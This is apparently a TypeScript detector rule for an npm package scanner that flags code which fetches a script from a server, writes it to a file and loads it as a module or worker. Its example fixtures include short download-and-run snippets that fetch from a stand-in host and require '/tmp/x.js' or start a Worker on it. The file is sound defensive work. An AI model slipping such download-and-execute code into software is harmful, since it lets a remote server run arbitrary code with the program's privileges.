import { type Deed, deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { isBundle } from "./_near.ts";
import { scriptsWith } from "./_npm.ts";
import { inComment, isLate, sight } from "./_sight.ts";

const WRITERS = ["writefile", "createwritestream", "appendfile"] as const;
/** A file that is written: under a name of the program, or at a path that stands there. */
const WRITES =
  /\b(?:writeFile(?:Sync)?|appendFile(?:Sync)?|createWriteStream)[ \t]{0,3}\([ \t\n]{0,8}(?:([A-Za-z_$][\w$]{0,40})[ \t]{0,3}[,)]|["'`]([^"'`\n$]{1,200}\.(?:c|m)?js)["'`])/g;
/** A file that is loaded as a part of the program. */
const LOADS =
  /(?<![.\w$])(?:require|import|new[ \t]{1,3}Worker|importScripts)[ \t]{0,3}\([ \t\n]{0,8}(?:([A-Za-z_$][\w$]{0,40})[ \t]{0,3}[,)]|["'`](?:file:\/\/)?([^"'`\n$]{1,200}\.(?:c|m)?js)["'`])/g;
/** What is read again as data. */
const DATA = /json|\.node\b|config|manifest/i;
/** Characters between a request, the file that is written, and where it is loaded. */
const NEAR = 1_500;
const MOST_TRIES = 100;

export const loadsFetchedFile: Detector = {
  id: "loads-fetched-file",
  title: "Writes what a server answers into a file and loads it as a module or worker",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.4,
  class: "threat",
  group: "download-and-run",
  why: `A script is fetched, put into a file and loaded with \`require\`, \`import\` or \`new Worker\`: it runs with everything the program has, and neither
\`eval\` nor a process shows it. Who controls the server decides what runs.

Tables that are fetched, kept as JSON and read again are data; native add-ons are seen by what fetches programs.`,
  literals: WRITERS,
  *detect(tree) {
    for (const file of scriptsWith(tree, WRITERS)) {
      if (isBundle(file)) continue;
      const found = loadIn(file);
      if (found !== undefined)
        yield sight(file, found.offset, `${found.loaded} loads what ${found.fetched.what} fetched into that file`, {
          share: isLate(file) ? 0.7 : 1,
        });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const fs = require('fs');\n(async () => {\n  const t = await (await fetch('https://example.invalid/x')).text();\n  fs.writeFileSync('/tmp/x.js', t);\n  require('/tmp/x.js');\n})();\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const file = path.join(cache, 'table.json');\nfetch('https://example.invalid/t').then((r) => r.text()).then((t) => {\n  fs.writeFileSync(file, t);\n  show(require(file));\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js": "fs.writeFileSync(out, compile(source));\nconst made = require(out);\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const { Worker } = require('worker_threads'), fs = require('fs'), os = require('os');\nconst p = os.tmpdir() + '/w.js';\nrequire('https').get('https://example.invalid/w', (r) => {\n  let d = '';\n  r.on('data', (c) => (d += c));\n  r.on('end', () => { fs.writeFileSync(p, d); new Worker(p); });\n});\n",
        },
      },
      {
        ecosystem: "npm",
        files: {
          "a.js":
            "const https = require('https'), fs = require('fs');\nconst f = fs.createWriteStream('/tmp/x.js');\nhttps.get('https://example.invalid/x', (r) => {\n  r.pipe(f);\n  f.on('finish', () => require('/tmp/x.js'));\n});\n",
        },
      },
    ],
  },
};

function loadIn(file: SourceFile) {
  const { text } = file;
  const written = new Map<string, number>();
  for (const match of text.matchAll(WRITES).take(MOST_TRIES)) written.set(match[1] ?? match[2] ?? "", match.index);
  if (written.size === 0) return undefined;
  for (const match of text.matchAll(LOADS).take(MOST_TRIES)) {
    const name = match[1] ?? match[2] ?? "";
    const at = written.get(name);
    if (at === undefined || match.index < at || match.index - at > NEAR || isData(file, name)) continue;
    const near = (deed: Deed) => Math.abs(deed.offset - at) < NEAR && deed.offset < match.index;
    const fetched = deedsOf(file, "http").find(near);
    if (fetched === undefined || inComment(file, match.index)) continue;
    return { offset: match.index, loaded: match[0].trim().slice(0, 80), fetched };
  }
  return undefined;
}

/** The name, or what the name is given first, says that the file is data. */
function isData({ text }: SourceFile, name: string): boolean {
  if (!/^[\w$]+$/.test(name)) return false;
  const given = new RegExp(`\\b${name.replaceAll("$", "\\$")}[ \\t]{0,3}=(?!=)[ \\t]{0,3}([^;\\n]{1,200})`).exec(
    text,
  )?.[1];
  return DATA.test(name) || (given !== undefined && DATA.test(given));
}
